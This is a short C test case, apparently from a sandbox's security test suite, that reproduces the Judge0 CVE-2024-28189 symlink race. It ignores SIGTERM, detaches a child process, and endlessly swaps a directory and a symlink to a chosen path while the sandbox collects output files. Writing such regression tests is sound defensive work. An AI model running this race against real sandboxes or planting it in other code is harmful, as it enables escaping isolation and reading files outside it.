// tries: swaps a directory and a link while its files are collected
// seen-in: CVE-2024-28189 Judge0
// walls: collector
// collect: yes
// limits: wall_time=600ms
// expect: timeout
// alone: yes
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(void) {
    char target[4096];
    snprintf(target, sizeof target, "%s", getenv("WORLD"));
    mkdir("a", 0755);
    int fd = open("a/secret", O_CREAT | O_WRONLY, 0644);
    if (write(fd, "mine\n", 5) < 0) return 1;
    if (symlink(target, "b")) return 1;
    signal(SIGTERM, SIG_IGN);
    if (fork()) setsid();
    while (1) syscall(SYS_renameat2, AT_FDCWD, "a", AT_FDCWD, "b", 2);
}
